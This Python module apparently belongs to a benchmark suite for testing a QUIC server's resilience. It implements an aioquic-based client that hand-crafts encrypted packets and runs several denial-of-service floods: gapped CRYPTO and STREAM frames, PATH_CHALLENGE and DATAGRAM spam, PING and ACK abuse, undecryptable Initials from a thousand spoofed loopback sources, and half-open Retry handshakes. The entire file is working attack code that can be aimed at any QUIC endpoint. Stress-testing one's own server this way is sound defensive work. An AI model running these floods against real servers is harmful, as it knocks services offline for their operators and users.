"""Attacks by QUIC packets: a client whose packets are made by hand, under keys that it agreed on like any other."""

from __future__ import annotations

import os
import socket
import ssl
import time
from collections.abc import Iterable, Iterator
from contextlib import suppress

from aioquic import tls
from aioquic._buffer import Buffer
from aioquic.buffer import encode_uint_var
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.packet import QuicPacketType, encode_long_header_first_byte

from bench.attacks.target import Target

PACKET_BYTES = 1150
PACKETS_PER_S = 4_000
HANDSHAKE_TIMEOUT_S = 3.0
LEAVE_S = 0.3
"""Before the close: the worker has read what came before it, and may read again."""
_BURST = 20


class QuicAttacker:
    """One UDP socket and one connection over it, blocking."""

    def __init__(self, address: tuple[str, int], local: str = "127.0.0.9") -> None:
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._socket.bind((local, 0))
        self._socket.connect(address)
        self._socket.settimeout(0.2)
        self._address = address
        configuration = QuicConfiguration(
            is_client=True,
            alpn_protocols=["h3"],
            verify_mode=ssl.CERT_NONE,
            server_name="localhost",
            max_datagram_frame_size=65_536,
        )
        self.quic = QuicConnection(configuration=configuration)
        self.quic.connect(address, time.monotonic())

    @classmethod
    def connected(cls, address: tuple[str, int], until: float) -> QuicAttacker | None:
        """Return a connection whose handshake is complete; `None` where the worker completed none by `until`."""
        while time.monotonic() < until:
            attacker = cls(address)
            deadline = min(until, time.monotonic() + HANDSHAKE_TIMEOUT_S)
            while not attacker.quic._handshake_confirmed and time.monotonic() < deadline:
                attacker.exchange()
            if attacker.quic._handshake_confirmed:
                for _ in range(3):
                    attacker.exchange()
                return attacker
            attacker.close()
        return None

    def close(self) -> None:
        self._socket.close()

    def leave(self) -> None:
        """Close the connection in good order, so that the worker adds up what it did."""
        time.sleep(LEAVE_S)
        self.quic.close()
        with suppress(OSError):
            for datagram, _ in self.quic.datagrams_to_send(time.monotonic()):
                self._socket.send(datagram)
        self.close()

    def exchange(self) -> None:
        """Send what is due, and take one datagram."""
        for datagram, _ in self.quic.datagrams_to_send(time.monotonic()):
            self._socket.send(datagram)
        try:
            self.quic.receive_datagram(self._socket.recv(65_536), self._address, time.monotonic())
        except TimeoutError:
            return

    def first_flight(self) -> bytes:
        """The first datagram of an honest client."""
        return self.quic.datagrams_to_send(time.monotonic())[0][0]

    def short_packet(self, frames: bytes) -> bytes:
        """A 1-RTT packet of the frames."""
        number = self.quic._packet_number
        self.quic._packet_number += 1
        crypto = self.quic._cryptos[tls.Epoch.ONE_RTT]
        head = bytes([0x41 | crypto.key_phase << 2]) + self.quic._peer_cid.cid + number.to_bytes(4, "big")[-2:]
        packet: bytes = crypto.encrypt_packet(head, frames, number)
        return packet

    def initial_packet(self, frames: bytes, number: int) -> bytes:
        """An Initial packet of the frames, filled up to 1,200 bytes and more."""
        version = self.quic._version
        assert version is not None  # from `connect` on
        payload = frames.ljust(PACKET_BYTES + 10, b"\0")
        head = Buffer(capacity=100)
        head.push_uint8(encode_long_header_first_byte(version, QuicPacketType.INITIAL, 1))
        head.push_uint32(version)
        for cid in (self.quic._peer_cid.cid, self.quic.host_cid):
            head.push_uint8(len(cid))
            head.push_bytes(cid)
        head.push_uint_var(0)
        head.push_uint16((len(payload) + 16 + 2) | 0x4000)
        head.push_uint16(number)
        packet: bytes = self.quic._cryptos[tls.Epoch.INITIAL].encrypt_packet(head.data, payload, number)
        return packet

    def send(self, packets: Iterable[bytes], until: float, per_s: int = PACKETS_PER_S) -> None:
        """Send at a steady rate, until the monotonic time `until` at most."""
        began = time.monotonic()
        for index, packet in enumerate(packets):
            try:
                self._socket.send(packet)
            except OSError:  # refused or full: the worker's answer, and an attacker goes on
                continue
            if index % _BURST == _BURST - 1:
                now = time.monotonic()
                if now > until:
                    return
                time.sleep(max(0.0, index / per_s - (now - began)))


def packed(frames: Iterable[bytes]) -> Iterator[bytes]:
    """Join frames to payloads of about a packet."""
    payload = b""
    for frame in frames:
        if len(payload) + len(frame) > PACKET_BYTES:
            yield payload
            payload = b""
        payload += frame
    if payload:
        yield payload


def crypto_gaps(count: int) -> Iterator[bytes]:
    """CRYPTO frames of one byte at every second offset."""
    return (b"\x06" + encode_uint_var(2 * index + 3) + b"\x01x" for index in range(count))


def crypto_gaps_in_initials(target: Target, until: float) -> None:
    """CRYPTO frames with gaps, before any handshake."""
    while time.monotonic() < until:
        attacker = QuicAttacker(target.quic)
        attacker.first_flight()
        attacker.send(
            (attacker.initial_packet(payload, number) for number, payload in enumerate(packed(crypto_gaps(20_000)))),
            until,
        )
        attacker.close()


def crypto_gaps_in_1rtt(target: Target, until: float) -> None:
    """CRYPTO frames with gaps, after the handshake."""
    while attacker := QuicAttacker.connected(target.quic, until):
        attacker.send((attacker.short_packet(payload) for payload in packed(crypto_gaps(40_000))), until)
        attacker.close()


def stream_gaps(target: Target, until: float) -> None:
    """One-byte STREAM frames with gaps over all streams, covered again and again."""
    while attacker := QuicAttacker.connected(target.quic, until):
        frames = [
            b"\x0e" + encode_uint_var(stream) + encode_uint_var(2 * index + 2) + b"\x01x"
            for stream in range(2, 402, 4)
            for index in range(10)
        ]
        attacker.send((attacker.short_packet(payload) for _ in range(40) for payload in packed(frames)), until)
        attacker.leave()


def path_challenges(target: Target, until: float) -> None:
    """PATH_CHALLENGE frames, 120 in each packet."""
    while attacker := QuicAttacker.connected(target.quic, until):
        challenges = (b"".join(b"\x1a" + os.urandom(8) for _ in range(120)) for _ in range(4_000))
        attacker.send((attacker.short_packet(payload) for payload in challenges), until)
        attacker.leave()


def datagrams(target: Target, until: float) -> None:
    """DATAGRAM frames of a session that does not exist."""
    while attacker := QuicAttacker.connected(target.quic, until):
        attacker.send((attacker.short_packet(b"\x31\x02\x00x" * 280) for _ in range(20_000)), until)
        attacker.leave()


def acknowledging_nothing(target: Target, until: float) -> None:
    """50,000 PINGs whose ACKs are never acknowledged, then ACK frames, 220 in a packet."""
    frame = b"\x02" + encode_uint_var(5) + encode_uint_var(0) * 3
    while attacker := QuicAttacker.connected(target.quic, until):
        pings_until = time.monotonic() + 0.7 * (until - time.monotonic())
        attacker.send((attacker.short_packet(b"\x01\0\0\0") for _ in range(50_000)), pings_until, per_s=8_000)
        attacker.send((attacker.short_packet(frame * 220) for _ in range(100)), until)
        attacker.leave()


def undecryptable_initials(target: Target, until: float) -> None:
    """Initials that do not decrypt, from a thousand addresses, 1,200 a second."""
    sockets = []
    for index in range(1_000):
        each = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        each.bind((f"127.{1 + index // 250}.1.{1 + index % 250}", 0))
        sockets.append(each)
    sample = QuicAttacker(target.quic)
    good = sample.first_flight()
    began, sent = time.monotonic(), 0
    while time.monotonic() < until:
        while sent < (time.monotonic() - began) * 1_200:
            bad = bytearray(good)
            bad[6:14] = os.urandom(8)
            bad[300:400] = os.urandom(100)
            sockets[sent % len(sockets)].sendto(bad, target.quic)
            sent += 1
        time.sleep(0.005)
    for each in sockets:
        each.close()
    sample.close()


def half_open(target: Target, until: float) -> None:
    """Handshakes of four addresses that answer Retry and then fall silent, 160 a second."""
    began, made = time.monotonic(), 0
    waiting: list[QuicAttacker] = []
    while time.monotonic() < until:
        while made < (min(time.monotonic(), until) - began) * 160 and len(waiting) < 400:
            attacker = QuicAttacker(target.quic, f"127.{5 + made % 4}.0.1")
            attacker._socket.setblocking(False)
            attacker._socket.send(attacker.first_flight())
            waiting.append(attacker)
            made += 1
        for attacker in waiting[-32:]:
            try:
                answer = attacker._socket.recv(65_536)
            except BlockingIOError:
                continue
            except OSError:
                continue
            if answer[0] & 0x30 == 0x30:
                attacker.quic.receive_datagram(answer, target.quic, time.monotonic())
                for datagram, _ in attacker.quic.datagrams_to_send(time.monotonic()):
                    attacker._socket.send(datagram)
        while len(waiting) >= 400:
            waiting.pop(0).close()
        time.sleep(0.003)
    for attacker in waiting:
        attacker.close()
